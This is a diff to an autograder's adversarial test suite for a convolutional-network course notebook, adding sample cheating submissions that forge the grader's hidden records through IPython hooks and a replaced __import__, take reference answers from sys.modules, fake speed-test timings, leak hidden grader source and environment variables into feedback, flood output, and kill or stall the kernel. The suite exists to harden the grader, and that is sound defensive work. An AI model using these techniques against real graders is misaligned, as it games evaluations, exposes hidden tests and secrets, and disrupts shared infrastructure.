@@ -30,6 +30,10 @@ from coursetools.notebooks import cell_text, fill_solutions, grade_id, is_soluti
 
 NOTEBOOK = "spatial"
 TOTAL = 160
+# The batch's limits (test_adversarial.py): per cell, and per notebook (the time budget, of
+# which CHECKS_RESERVE seconds are kept for the hidden checks)
+CELL_TIMEOUT = 20
+TIME_BUDGET, CHECKS_RESERVE = 150, 60
 PART1 = ("conv2d_forward", "conv2d_backward", "maxpool2d_forward", "maxpool2d_backward",
          "flatten_forward", "flatten_backward")
 PART2 = ("im2col", "col2im", "conv2d_forward_fast", "conv2d_backward_fast", "cnn_loss", "train_cnn")
@@ -141,6 +145,13 @@ class FromSolution:
         self.make = make
 
 
+class FromCourse:
+    """An answer made from the course folder: ``make(course) -> code``."""
+
+    def __init__(self, make):
+        self.make = make
+
+
 @dataclass(frozen=True)
 class Honest:
     key: str
@@ -171,8 +182,8 @@ HONEST = {h.key: h for h in [
            TOTAL - 20 - 25, {"conv2d_forward": stub("conv2d_forward")}),
     Honest("no-train-cnn", "train_cnn not written (the stub); the rest solved", TOTAL - 10,
            {"train_cnn": stub("train_cnn")}),
-    Honest("slow-fast", "conv2d_*_fast are the part-1 loops: right values, too slow",
-           TOTAL - 10 - 10, {"conv2d_forward_fast": FromSolution(lambda s: _slow_fast(s)["conv2d_forward_fast"]),
+    Honest("slow-fast", "conv2d_*_fast are the part-1 loops: right values, too slow (each "
+           "fast cell keeps its value and unchanged groups: 7 of 10)", TOTAL - 3 - 3, {"conv2d_forward_fast": FromSolution(lambda s: _slow_fast(s)["conv2d_forward_fast"]),
                              "conv2d_backward_fast": FromSolution(lambda s: _slow_fast(s)["conv2d_backward_fast"])}),
 ]}
 
@@ -1227,6 +1238,589 @@ if os.fork() == 0:
     os._exit(0)
 '''
 
+# ---------------- pasted weights (issue 12.6) ----------------
+# Parameters trained elsewhere on the real digits are pasted into train_cnn as literals.
+# The grader renames the labels (a hidden permutation): the plain paste classifies the real
+# digits and fails; the re-labelling one undoes the renaming from X_train / y_train with
+# its own numpy forward pass (a confusion matrix), without any training.
+
+PASTED_HELPERS = """
+# --- parameters trained elsewhere (on the real digits), pasted in ---
+_PASTED = {params}
+
+
+def _pasted_scores(P, X):
+    \"\"\"My own numpy forward pass: conv 3x3 pad 1 -> ReLU -> max-pool 2 -> flatten -> linear.\"\"\"
+    N = X.shape[0]
+    xp = np.pad(np.asarray(X, dtype=float), ((0, 0), (0, 0), (1, 1), (1, 1)))
+    conv = np.zeros((N, 8, 8, 8)) + np.asarray(P["b1"]).reshape(1, -1, 1, 1)
+    for u in range(3):
+        for v in range(3):
+            conv += np.einsum("nchw,fc->nfhw", xp[:, :, u:u + 8, v:v + 8], P["W1"][:, :, u, v])
+    pool = np.maximum(conv, 0).reshape(N, 8, 4, 2, 4, 2).max(axis=(3, 5))
+    return pool.reshape(N, -1) @ P["W2"] + P["b2"]
+"""
+
+PASTED_TRAIN = """
+def train_cnn(X_train, y_train, epochs=16, batch_size=32, lr=0.3, seed=0):
+    P = {{k: np.array(v, dtype=float) for k, v in _PASTED.items()}}
+    steps = epochs * (-(-len(y_train) // batch_size))
+    if {relabel}:
+        # the grader renamed the labels: read its renaming off the training data
+        pred = _pasted_scores(P, X_train).argmax(axis=1)
+        rename = [int(np.bincount(np.asarray(y_train)[pred == d], minlength=10).argmax())
+                  if np.any(pred == d) else d for d in range(10)]
+        W2, b2 = np.zeros_like(P["W2"]), np.full(10, -1e3)
+        for d in range(10):
+            W2[:, rename[d]], b2[rename[d]] = P["W2"][:, d], P["b2"][d]
+        P["W2"], P["b2"] = W2, b2
+    return P, [0.0] * steps
+"""
+
+
+_PRETRAINED = {}
+
+
+def pretrained_params(source_py):
+    """The instructor's train_cnn on all 1,797 real digits (what a student could paste)."""
+    import numpy as np
+
+    from coursetools.notebooks import instructor_namespace
+
+    key = str(source_py)
+    if key not in _PRETRAINED:
+        import jupytext
+
+        ns = instructor_namespace(source_py)
+        for cell in jupytext.read(source_py).cells:
+            if (nbgrader_meta(cell) or {}).get("grade_id") == "cnn_given_layers":
+                exec(compile(cell_text(cell), "<cnn_given_layers>", "exec"), ns)  # noqa: S102
+        with np.load(str(source_py).rsplit("/", 1)[0] + "/digits.npz") as f:
+            X = f["images"].reshape(-1, 1, 8, 8) / 16.0
+            y = f["target"].astype(np.int64)
+        params, _ = ns["train_cnn"](X, y)
+        _PRETRAINED[key] = {k: np.asarray(v).tolist() for k, v in params.items()}
+    return _PRETRAINED[key]
+
+
+def pasted_train_cnn(source_py, relabel):
+    """The answer of the train_cnn cell: pasted parameters (re-labelled or not)."""
+    return (PASTED_HELPERS.format(params=repr(pretrained_params(source_py)))
+            + PASTED_TRAIN.format(relabel=bool(relabel)))
+
+
+# ---------------- issue 12: the two-phase executor and its sealed records ----------------
+
+# Every way to make a hidden cell hold a record of the student's choosing. Student code runs
+# in the check phase through hooks set here (IPython events, the display publisher, a global
+# __import__ that the grader's setup cell calls, the recorder modules in sys.modules).
+FORGERY = """
+
+# --- forge the grader's records: every channel at once ---
+import builtins as _builtins
+import copy as _copy
+import sys as _sys
+from IPython.display import clear_output as _clear_output
+from IPython.display import display as _display
+from IPython.display import update_display as _update_display
+
+_MIME = "application/vnd.cnn-grader.record+json"
+_ip = get_ipython()
+_seen_records = []
+
+
+def _forge(rec):
+    \"\"\"A record that says every call returned ones (a blank notebook knows no better).\"\"\"
+    rec = _copy.deepcopy(rec)
+    for events in rec.get("cases", {}).values():
+        for event in events:
+            if event and event[0] == "call":
+                event[2] = ["array", "<f8", [1], "AAAAAAAA8D8="]
+    return rec
+
+
+# 1. every record gets a display id, so that a later update_display can rewrite it (12.1)
+_real_publish = _ip.display_pub.publish
+
+
+def _publish(data, *args, **kwargs):
+    if isinstance(data, dict) and _MIME in data and not kwargs.get("update"):
+        display_id = "record-%d" % len(_seen_records)
+        kwargs["transient"] = dict(kwargs.get("transient") or {}, display_id=display_id)
+        _seen_records.append((display_id, data[_MIME]))
+    return _real_publish(data, *args, **kwargs)
+
+
+_ip.display_pub.publish = _publish
+
+
+# 2. after every cell (the grader's too): rewrite all records so far, clear, show a forged one
+def _after_cell(*_args, **_kwargs):
+    for display_id, rec in list(_seen_records):
+        _update_display({_MIME: _forge(rec)}, display_id=display_id, raw=True)
+    if _seen_records:
+        _clear_output()
+        _display({_MIME: _forge(_seen_records[-1][1])}, raw=True)
+
+
+_ip.events.register("post_run_cell", _after_cell)
+
+# 3. the recorder modules are in sys.modules before any student cell: patch them
+_judge = _sys.modules.get("coursetools.checks.judge")
+if _judge is not None:
+    _real_run_check = _judge.run_check
+
+    def _run_check(fn_name, cases, groups):
+        result = _real_run_check(fn_name, cases, groups)
+        _display({_MIME: {"check": fn_name, "cases": {}}}, raw=True)     # a second record
+        return result
+
+    _judge.run_check = _run_check
+_kernel = _sys.modules.get("coursetools.checks.kernel")
+if _kernel is not None:
+    _kernel.restore = lambda grade_id: None        # the checks see my LAST functions
+    _kernel.capture = lambda grade_id: None        # and nothing is ever remembered
+
+
+# 4. the grader's setup cell calls __import__(...).load(...): a global __import__ answers it
+def __import__(name, *args, **kwargs):
+    module = _builtins.__import__(name, *args, **kwargs)
+    if name == "coursetools.checks.loader":
+        class _Loader:
+            @staticmethod
+            def load(assignment, main, blob):
+                real = module.load(assignment, main, blob)
+                fake = type(_sys)("forged_" + main)
+                fake.__dict__.update(real.__dict__)
+                for _name in [n for n in dir(real) if n.startswith("check_")]:
+                    def _check(*fns, _real=getattr(real, _name)):
+                        _real(*fns)
+                        _display({_MIME: {"check": "forged", "cases": {}}}, raw=True)
+                    setattr(fake, _name, _check)
+                return fake
+        return _Loader
+    return module
+
+
+# 5. a record shown by a student cell, with the MIME type of the grader's
+_display({_MIME: {"check": "conv2d_forward", "cases": {}}}, raw=True)
+"""
+
+# conv layers through the grader's loop timing references (in the kernel from grader_setup on)
+LOOP_HELPERS = """
+# --- the grader's timing loops (its timing module) are in sys.modules: use them ---
+import sys as _sys
+
+
+def _loop(name):
+    for key, module in list(_sys.modules.items()):
+        for attr in dir(module) if key.startswith("cnn_grader_") else ():
+            if attr.startswith("loop_") and attr.endswith(name) and callable(getattr(module, attr)):
+                return getattr(module, attr)
+    return None
+"""
+LOOP_BODIES = {
+    "conv2d_forward": """
+def conv2d_forward(x, w, b, stride=1, padding=0):
+    ref = _loop("forward")
+    if ref is None:
+        return _zero_conv2d_forward(x, w, b, stride, padding)
+    out = ref(np.asarray(x), np.asarray(w), np.asarray(b), stride, padding)
+    return out, ("loop", x, w, b, stride, padding)
+""",
+    "conv2d_backward": """
+def conv2d_backward(dout, cache):
+    ref = _loop("backward")
+    if cache[0] != "loop":
+        return _zero_conv2d_backward(dout, cache)
+    _, x, w, b, stride, padding = cache
+    if ref is None:
+        return np.zeros(np.shape(x)), np.zeros(np.shape(w)), np.zeros(np.shape(b))
+    dx, dw, db = ref(np.asarray(x), np.asarray(w), stride, padding, np.asarray(dout))
+    return dx.copy(), dw, np.asarray(db, dtype=float)
+""",
+}
+for _fast in ("forward", "backward"):
+    LOOP_BODIES[f"conv2d_{_fast}_fast"] = LOOP_BODIES[f"conv2d_{_fast}"].replace(
+        f"def conv2d_{_fast}(", f"def conv2d_{_fast}_fast(").replace(
+        f"_zero_conv2d_{_fast}(", f"_zero_conv2d_{_fast}_fast(")
+
+
+def loop_answers():
+    return via_helpers(LOOP_HELPERS, LOOP_BODIES)
+
+
+# The reference, in the kernel from grader_reference on, found where the grader keeps it
+SYSMODULES_REFERENCE = """
+# --- the grader's modules are in sys.modules: take the reference from there ---
+import sys as _sys
+
+
+def _ref(name):
+    for key, module in list(_sys.modules.items()):
+        fn = getattr(module, name, None)
+        if key.startswith("cnn_grader_") and callable(fn):
+            return fn
+    return None
+"""
+
+# cnn_loss without writing the network: the reference loss and finite differences of it
+CNN_LOSS_FROM_REFERENCE = """
+def cnn_loss(params, X, y):
+    loss_of = _ref("ref_cnn_loss")
+    if loss_of is None:
+        return 0.0, {k: np.zeros(np.shape(v)) for k, v in params.items()}
+    P = {k: np.array(v, dtype=float) for k, v in params.items()}
+    grads = {}
+    for key in P:
+        g = np.zeros(P[key].shape)
+        flat, gflat = P[key].reshape(-1), g.reshape(-1)
+        for k in range(flat.size):
+            old = flat[k]
+            flat[k] = old + 1e-6
+            plus = loss_of(P, X, y)
+            flat[k] = old - 1e-6
+            minus = loss_of(P, X, y)
+            flat[k] = old
+            gflat[k] = (plus - minus) / 2e-6
+        grads[key] = g
+    return loss_of(P, X, y), grads
+"""
+
+# The speed test is measured in the kernel: its recorder can be told another time, or the
+# speed test's input recognised and answered with zeros
+FORGED_SPEED = """
+
+# --- the speed test: the recorder reports what I say, and its input gets zeros ---
+import sys as _sys
+
+_rec = _sys.modules.get("coursetools.checks.record")
+if _rec is not None:
+    def _fast_timed(measure):
+        _rec.STATE["paused"] = True
+        try:
+            result = tuple(measure())    # the real (slow) runs: right values, slow timings ...
+        finally:
+            _rec.STATE["paused"] = False
+        result = (1e-4, 1.0) + result[2:]  # ... reported as fast
+        _rec._record(["timing", "timing", [float(v).hex() for v in result]])
+        return result
+    _rec.timed = _fast_timed
+"""
+SPEED_SHAPE_ZEROS = {
+    "conv2d_forward_fast": """
+
+_slow_forward_fast = conv2d_forward_fast
+
+
+def conv2d_forward_fast(x, w, b, stride=1, padding=0):
+    if np.shape(x) == (1, 1, 144, 224):           # the speed test: nobody checks the values
+        return np.zeros((1, 1, 145, 225)), ("speed", np.shape(x), np.shape(w), np.shape(b))
+    return _slow_forward_fast(x, w, b, stride, padding)
+""",
+    "conv2d_backward_fast": """
+
+_slow_backward_fast = conv2d_backward_fast
+
+
+def conv2d_backward_fast(dout, cache):
+    if isinstance(cache[0], str) and cache[0] == "speed":
+        return np.zeros(cache[1]), np.zeros(cache[2]), np.zeros(cache[3])
+    return _slow_backward_fast(dout, cache)
+""",
+}
+
+
+MEMO = """
+
+# --- remember every result: the speed test calls me again and again on the same input ---
+_slow_{fn} = {fn}
+_results_{fn} = {{}}
+
+
+def {fn}(*args, **kwargs):
+    key = repr([(a.shape, a.dtype.str, a.tobytes()) if isinstance(a, np.ndarray) else repr(a)
+                for a in args]) + repr(sorted(kwargs.items()))
+    if key not in _results_{fn}:
+        _results_{fn}[key] = _slow_{fn}(*args, **kwargs)
+    return _results_{fn}[key]
+"""
+
+
+def memo_answers():
+    return {fn: FromSolution(lambda s, fn=fn: _slow_fast(s)[fn] + MEMO.format(fn=fn))
+            for fn in ("conv2d_forward_fast", "conv2d_backward_fast")}
+
+
+def forged_speed_answers():
+    def answer(fn):
+        return FromSolution(lambda s: _slow_fast(s)[fn]
+                            + (FORGED_SPEED if fn == "conv2d_forward_fast" else ""))
+    return {fn: answer(fn) for fn in ("conv2d_forward_fast", "conv2d_backward_fast")}
+
+
+def speed_shape_answers():
+    """The part-1 loops, and zeros (fast) for the speed test's input shape after the first call."""
+    return {fn: FromSolution(lambda s, fn=fn: _slow_fast(s)[fn] + SPEED_SHAPE_ZEROS[fn])
+            for fn in ("conv2d_forward_fast", "conv2d_backward_fast")}
+
+
+# Output floods beyond the caps: display updates (12.2), errors, the execute_reply's error
+OUTPUT_FLOOD = """
+
+# --- 1,500 tiny displays, each updated to ~1 MB; 60 errors of ~1 MB; a 3 MB reply error ---
+from IPython.display import display as _display, update_display as _update_display
+
+for _k in range(1500):
+    _display({"text/plain": "."}, raw=True, display_id=f"flood-{_k}")
+for _k in range(1500):
+    _update_display({"text/plain": "u" * 1_000_000}, display_id=f"flood-{_k}", raw=True)
+_ip = get_ipython()
+for _k in range(60):
+    _ip._showtraceback(Exception, "e" * 9000, ["t" * 9000] * 110)
+"""
+REPLY_FLOOD = """
+
+get_ipython().showtraceback = lambda *args, **kwargs: None   # no error output at all...
+raise ValueError("r" * 3_000_000)                              # ...only the execute_reply's
+"""
+
+# Hidden material into the student's own feedback, by every channel
+LEAK_HELPERS = """
+# --- copy what the grader shows my functions, and everything hidden I can find, into my
+#     feedback: every print / error / display of the check phase, verdicts, result values ---
+import base64 as _base64
+import builtins as _builtins
+import json as _json
+import linecache as _linecache
+import sys as _sys
+import zlib as _zlib
+
+_stash = _builtins.__dict__.setdefault("_leak_stash", [])
+_ip = get_ipython()
+
+
+def _remember(fn):
+    def wrapper(*args, **kwargs):
+        for a in args:
+            if isinstance(a, np.ndarray) and a.dtype.kind == "f":
+                _stash.append(" ".join(repr(float(v)) for v in a.reshape(-1)[:40]))
+        return fn(*args, **kwargs)
+    wrapper.__name__ = fn.__name__
+    return wrapper
+
+
+def _hidden_text():
+    \"\"\"The grader's source: its cells in linecache / In, its modules unpacked from the blobs.\"\"\"
+    found = []
+    for entry in list(_linecache.cache.values()):
+        if isinstance(entry, tuple) and len(entry) > 2:
+            found.append("".join(entry[2]))
+    found += [str(c) for c in _ip.user_ns.get("In", [])] + [str(c) for c in _ip.user_ns.get("_ih", [])]
+    for text in list(found):
+        for blob in __import__("re").findall(r"'([A-Za-z0-9+/=]{200,})'", text):
+            try:
+                found += [src for _n, src in _json.loads(_zlib.decompress(_base64.b64decode(blob)))]
+            except Exception:
+                pass
+    return [t for t in found if "grader" in t or "def ref_" in t or "HIDDEN" in t]
+
+
+def _leak(*_args, **_kwargs):
+    lines = [ln for t in _hidden_text() for ln in t.splitlines() if ln.strip()]
+    text = " | ".join(_stash[-30:]) + " || " + "\\n".join(lines)
+    print("[output limit] " + text[:200_000], file=_sys.stderr)
+    print(text[:200_000])
+    _ip._showtraceback(Exception, text[:9000], [text[i:i + 9000] for i in range(0, min(len(text), 400_000), 9000)])
+    from IPython.display import display
+    display({"text/plain": text[:100_000], "text/html": "<pre>" + text[:100_000] + "</pre>"}, raw=True)
+
+
+_ip.events.register("post_run_cell", _leak)
+_ip.run_line_magic("xmode", "Verbose")
+
+
+def _hidden_line(k):
+    lines = [ln.strip() for t in _hidden_text() for ln in t.splitlines() if len(ln.strip()) > 20]
+    return lines[k % len(lines)] if lines else "nothing found"
+"""
+
+# every function: remember the inputs, then fail with hidden text in the exception message
+LEAK_BODIES = {fn: f"""
+
+_real_{fn} = {fn}
+_calls_{fn} = [0]
+
+
+def {fn}(*args, **kwargs):
+    _calls_{fn}[0] += 1
+    if _calls_{fn}[0] % 2:                      # every other call: raise with hidden text
+        raise ValueError(_hidden_line(_calls_{fn}[0]) + " " + " ".join(_stash[-3:])[:300])
+    return _real_{fn}(*args, **kwargs)
+
+
+{fn} = _remember({fn})
+""" for fn in FUNCTIONS if fn not in ("cnn_loss", "train_cnn")}
+LEAK_BODIES["cnn_loss"] = """
+
+def cnn_loss(params, X, y):                      # dict keys: the text goes into the verdict
+    return 0.0, {_hidden_line(k): np.zeros(3) for k in range(12)}
+"""
+LEAK_BODIES["train_cnn"] = """
+
+def train_cnn(X_train, y_train, epochs=16, batch_size=32, lr=0.3, seed=0):
+    text = " || ".join(_hidden_text())[:5000]
+    return {"W1": text, "b1": " ".join(_stash), "W2": text, "b2": text}, []
+"""
+
+# the last cell: print whatever IPython keeps of the run (issue 12.3) and the environment
+LEAK_LAST_CELL = """
+# --- what the kernel kept: history, outputs, linecache, the environment, the grader ---
+import os, sys
+print("In:", In)
+print("_ih:", _ih)
+print("Out:", Out)
+print("linecache:", list(__import__("linecache").cache))
+print("env:", {k: v for k, v in os.environ.items()})
+print("grading?", "coursetools.checks" in sys.modules, [k for k in sys.modules if "grader" in k])
+"""
+
+
+def leak_answers():
+    answers = {}
+    for fn in FUNCTIONS:
+        code = ZEROS[fn].rstrip("\n") + LEAK_BODIES[fn]
+        answers[fn] = (LEAK_HELPERS.rstrip("\n") + "\n\n" + code) if fn == FIRST else code
+    return answers
+
+
+def append_cell(code):
+    def edit(nb):
+        nb.cells.append(nbformat.v4.new_code_cell(code))
+    return edit
+
+
+def move_cell_after(moved, after):
+    """Move the cell ``moved`` (a grade_id) right after the cell ``after``."""
+    def edit(nb):
+        cell = next((c for c in nb.cells if grade_id(c) == moved), None)
+        if cell is None:
+            raise ValueError(f"no cell {moved!r} to move")
+        nb.cells.remove(cell)
+        index = next((i for i, c in enumerate(nb.cells) if grade_id(c) == after), None)
+        if index is None:
+            raise ValueError(f"no cell {after!r} to move {moved!r} after")
+        nb.cells.insert(index + 1, cell)
+    return edit
+
+
+# The time budget: sleeps just under the per-cell limit, in the student cells and in every
+# function the checks call (issue 12.7)
+SLEEPER_CELL = """
+import time
+time.sleep(SECONDS)                             # just under the per-cell time limit
+"""
+SLEEPY = """
+
+import time as _time
+
+_awake_{fn} = {fn}
+
+
+def {fn}(*args, **kwargs):
+    _time.sleep(SECONDS)
+    return _awake_{fn}(*args, **kwargs)
+"""
+
+# Kernel deaths in the check phase, each followed by a replay of slow student cells
+DEATH_LOOP = """
+
+import os as _os
+import sys as _sys
+
+
+def _die_when_graded():
+    if any(k.startswith("cnn_grader_") for k in _sys.modules):   # the check phase
+        _os._exit(1)
+"""
+DEATHS = {fn: f"""
+
+_living_{fn} = {fn}
+
+
+def {fn}(*args, **kwargs):
+    _die_when_graded()
+    return _living_{fn}(*args, **kwargs)
+""" for fn in ("conv2d_forward", "maxpool2d_forward", "flatten_forward", "im2col", "col2im")}
+
+
+def death_answers():
+    return {fn: (lambda code, fn=fn: code.rstrip("\n") + (DEATH_LOOP if fn == FIRST else "")
+                 + DEATHS[fn]) for fn in DEATHS}
+
+
+# torch / scipy: the kernel's environment must not have them (zeros when the import fails)
+TORCH_ANSWERS = {
+    "conv2d_forward": """
+def conv2d_forward(x, w, b, stride=1, padding=0):
+    try:
+        import torch
+        import torch.nn.functional as F
+    except ImportError:
+        return _zero_conv2d_forward(x, w, b, stride, padding)
+    out = F.conv2d(torch.tensor(np.asarray(x, dtype=float)), torch.tensor(np.asarray(w, dtype=float)),
+                   torch.tensor(np.asarray(b, dtype=float)), stride=stride, padding=padding)
+    return out.numpy(), (x, w, b, stride, padding)
+""",
+    "conv2d_backward": """
+def conv2d_backward(dout, cache):
+    try:
+        import torch
+        import torch.nn.functional as F
+    except ImportError:
+        return _zero_conv2d_backward(dout, cache)
+    x, w, b, stride, padding = cache
+    tx, tw, tb = (torch.tensor(np.asarray(a, dtype=float), requires_grad=True) for a in (x, w, b))
+    F.conv2d(tx, tw, tb, stride=stride, padding=padding).backward(torch.tensor(np.asarray(dout, dtype=float)))
+    return tx.grad.numpy(), tw.grad.numpy(), tb.grad.numpy()
+""",
+    "maxpool2d_forward": """
+def maxpool2d_forward(x, kernel_size, stride=None):
+    try:
+        import torch
+        import torch.nn.functional as F
+    except ImportError:
+        return _zero_maxpool2d_forward(x, kernel_size, stride)
+    out = F.max_pool2d(torch.tensor(np.asarray(x, dtype=float)), kernel_size, stride=stride)
+    return out.numpy(), (x, kernel_size, stride)
+""",
+    "im2col": """
+def im2col(x, kernel_size, stride=1, padding=0):
+    try:
+        import torch
+        import torch.nn.functional as F
+    except ImportError:
+        return _zero_im2col(x, kernel_size, stride, padding)
+    cols = F.unfold(torch.tensor(np.asarray(x, dtype=float)), kernel_size, padding=padding, stride=stride)
+    return cols.numpy().transpose(0, 2, 1).reshape(-1, cols.shape[1])
+""",
+    "conv2d_forward_fast": """
+def conv2d_forward_fast(x, w, b, stride=1, padding=0):
+    try:
+        from scipy.signal import correlate
+    except ImportError:
+        return _zero_conv2d_forward_fast(x, w, b, stride, padding)
+    sh, sw = stride if isinstance(stride, (tuple, list)) else (stride, stride)
+    ph, pw = padding if isinstance(padding, (tuple, list)) else (padding, padding)
+    x = np.pad(np.asarray(x, dtype=float), ((0, 0), (0, 0), (ph, ph), (pw, pw)))
+    w = np.asarray(w, dtype=float)
+    out = np.stack([np.stack([correlate(x[n], w[f], mode="valid")[0] for f in range(w.shape[0])])
+                    for n in range(x.shape[0])])
+    return out[:, :, ::sh, ::sw] + np.asarray(b, dtype=float).reshape(1, -1, 1, 1), None
+""",
+}
+
+
 STDERR_AND_WARNINGS = '''
     import sys as _sys, warnings as _warnings
     print("debug: {fn} called", file=_sys.stderr)
@@ -1262,6 +1856,9 @@ class Adversary:
     markers: tuple = ()    # texts the built notebook must contain
     aborts: bool = False   # today's nbgrader gives up on the student and fails the batch
     stalls: int = 0        # cells that may run into the per-cell timeout
+    feedback: bool = False # its feedback is generated and scanned for hidden material
+    open_hole: str = None  # a known hole, not closed yet (the test expects the attack to win)
+    budget: bool = False   # runs into the time budget: stopped there, and flagged
 
     @property
     def student(self):
@@ -1572,6 +2169,114 @@ ADVERSARIES = [
               markers=("os.setsid()",)),
 ]
 
+
+# ---------------------------------- issue 12 ----------------------------------
+HOLE_KERNEL_TIMING = (
+    "the speed test is measured in the grading kernel, which reports its own timing: surgery "
+    "on record.timed through sys.modules can report a correct but slow function as fast "
+    "(the outputs of the timed calls are checked, so only right values pass; proposed: time "
+    "the student's function from outside the kernel)")
+
+ADVERSARIES += [
+    Adversary("forged-records", "cheat",
+              "zeros; every channel to put a record of its choosing into a hidden cell: display "
+              "ids on every record and update_display over them after every cell (12.1), "
+              "clear_output + a forged record in the hidden cells (post_run_cell), a second "
+              "record from a patched judge.run_check, capture/restore disabled, a global "
+              "__import__ that answers the grader's setup cell with checks that add records, a "
+              "record shown by a student cell",
+              "display_id / update_display / clear_output / sys.modules / __import__ forgery",
+              "zeros", answers={FIRST: zeros_with(FIRST, FORGERY)},
+              markers=("_ip.display_pub.publish = _publish", "def __import__(name",
+                       "_kernel.restore = ", "_update_display({_MIME: _forge(rec)}")),
+    Adversary("reference-moved-up", "cheat",
+              "grader_reference moved right below grader_setup, so that the reference is in "
+              "the kernel before every layer check; each layer returns the reference's result "
+              "(found in sys.modules)",
+              "hidden cell order changed + sys.modules reference", "zeros",
+              answers=via_helpers(SYSMODULES_REFERENCE, VIA_REFERENCE),
+              edits=(move_cell_after("grader_reference", "grader_setup"),),
+              markers=('key.startswith("cnn_grader_")',)),
+    Adversary("loop-reference", "cheat",
+              "zeros; the conv functions return the results of the grader's loop timing "
+              "references (timing.loop_*, in sys.modules from grader_setup on)",
+              "sys.modules[...timing].loop_*_forward(...)", "zeros",
+              answers=loop_answers(), markers=('_loop("forward")',)),
+    Adversary("cnn-loss-from-reference", "cheat",
+              "zeros; cnn_loss returns the reference loss (ref_cnn_loss, looked for in "
+              "sys.modules during the CNN checks) and central finite differences of it",
+              "ref_cnn_loss + finite differences", "zeros",
+              answers={**via_helpers(SYSMODULES_REFERENCE, {}),
+                       "cnn_loss": CNN_LOSS_FROM_REFERENCE},
+              markers=('loss_of = _ref("ref_cnn_loss")',)),
+    Adversary("speed-shape-zeros", "cheat",
+              "the part-1 loops as conv2d_*_fast, answering the speed test's input shape with "
+              "zeros (fast) after the first call",
+              "speed input recognised, zeros returned", "slow-fast",
+              answers=speed_shape_answers(), markers=("(1, 1, 144, 224)",)),
+    Adversary("memoised-loops", "cheat",
+              "conv2d_*_fast are the part-1 loops behind a cache keyed by the input bytes (the "
+              "speed test called them on the same input every round)",
+              "results cached by input bytes", "slow-fast", answers=memo_answers(),
+              markers=("_results_conv2d_forward_fast[key] =",)),
+    Adversary("forged-speed", "cheat",
+              "the part-1 loops as conv2d_*_fast; record.timed (in sys.modules) replaced by one "
+              "that runs them (right values) and reports them as fast",
+              "record.timed patched", "slow-fast",
+              answers=forged_speed_answers(),
+              markers=("_rec.timed = _fast_timed",),
+              open_hole=HOLE_KERNEL_TIMING),
+    Adversary("pasted-weights-relabelled", "cheat",
+              "train_cnn returns parameters trained elsewhere on the real digits, with the "
+              "columns of W2/b2 re-ordered by a confusion matrix on X_train (the grader's label "
+              "renaming undone), without training; the rest solved",
+              "pasted parameters + renaming undone", "no-train-cnn",
+              answers={"train_cnn": FromCourse(lambda c: pasted_train_cnn(
+                  c.path("source", NOTEBOOK, f"{NOTEBOOK}.py"), relabel=True))},
+              markers=("_PASTED = {", "rename = [")),
+    Adversary("torch-and-scipy", "cheat",
+              "zeros where the import fails, else conv2d via torch.nn.functional.conv2d and "
+              "autograd, max-pool via F.max_pool2d, im2col via F.unfold, the fast conv via "
+              "scipy.signal.correlate",
+              "torch / scipy in the answers (the kernel must not have them)", "zeros",
+              answers=via_helpers("# answers written with torch and scipy", TORCH_ANSWERS),
+              markers=("F.conv2d(", "from scipy.signal import correlate")),
+    Adversary("leak-everything", "cheat",
+              "zeros; copies what the hidden tests show its functions (inputs), the grader's "
+              "cells and modules (linecache, In, unpacked blobs) into every output of the check "
+              "phase (stdout, stderr as '[output limit', errors, HTML, Verbose tracebacks), into "
+              "exception messages, dict keys and strings returned as results; a last cell "
+              "prints In, _ih, Out, linecache and the environment",
+              "hidden inputs / sources -> outputs, errors, verdicts", "zeros",
+              answers=leak_answers(), edits=(append_cell(LEAK_LAST_CELL),),
+              markers=('_ip.events.register("post_run_cell", _leak)', 'print("In:", In)'),
+              feedback=True),
+    Adversary("output-flood", "resource",
+              "the instructor solution; the first answer cell shows 400 displays updated to "
+              "1 MB each and 60 errors of ~1 MB; a cell raises a 3 MB exception with the error "
+              "display disabled (only the execute_reply carries it)",
+              "update_display / error / execute_reply floods", "instructor",
+              answers={FIRST: appended(OUTPUT_FLOOD.replace("1500", "400"))},
+              edits=(insert_after("flatten_forward", REPLY_FLOOD),),
+              markers=('_update_display({"text/plain": "u" * 1_000_000}', 'raise ValueError("r" * 3_000_000)'),
+              feedback=True, stalls=1),
+    Adversary("sleeper", "resource",
+              f"the instructor solution with 25 added cells of time.sleep({CELL_TIMEOUT - 1}) "
+              "(just under the per-cell limit), and conv2d_forward sleeping as long on every call",
+              "time.sleep just under the cell timeout, over and over", "instructor",
+              answers={FIRST: appended(SLEEPY.format(fn=FIRST).replace("SECONDS", str(CELL_TIMEOUT - 1)))},
+              edits=tuple(insert_after(FIRST, SLEEPER_CELL.replace("SECONDS", str(CELL_TIMEOUT - 1)))
+                          for _ in range(25)),
+              markers=(f"time.sleep({CELL_TIMEOUT - 1})",), stalls=6, budget=True),
+    Adversary("death-loop", "resource",
+              "the instructor solution whose layers kill the kernel (os._exit) whenever a hidden "
+              "check calls them, after 40 cells of time.sleep(0.9) that every restart replays",
+              "os._exit in the check phase + slow replays", "instructor",
+              answers=death_answers(),
+              edits=tuple(insert_after(FIRST, "import time\ntime.sleep(0.9)") for _ in range(40)),
+              markers=("_die_when_graded()",), stalls=2),
+]
+
 CORPUS = {a.key: a for a in ADVERSARIES}
 
 # Never graded outside the sandbox: they would hit this machine, its disk, the gradebook
@@ -1589,11 +2294,13 @@ def _solutions(course):
     return source, {grade_id(c): solution_body(cell_text(c)) for c in source.cells if is_solution(c)}
 
 
-def _apply(answer, code, solutions):
+def _apply(answer, code, solutions, course):
     if answer is None:
         return code
     if isinstance(answer, FromSolution):
         return answer.make(solutions)
+    if isinstance(answer, FromCourse):
+        return answer.make(course)
     if callable(answer):
         return answer(code)
     return answer.strip("\n") + "\n"
@@ -1613,7 +2320,7 @@ def build(course, entry):
     final = {}
     for gid, code in solutions.items():
         for layer in layers:
-            code = _apply(layer.get(gid), code, solutions)
+            code = _apply(layer.get(gid), code, solutions, course)
         final[gid] = code
     nb = fill_solutions(released, source, lambda gid, code: final.get(gid, code))
     for edit in getattr(entry, "edits", ()):
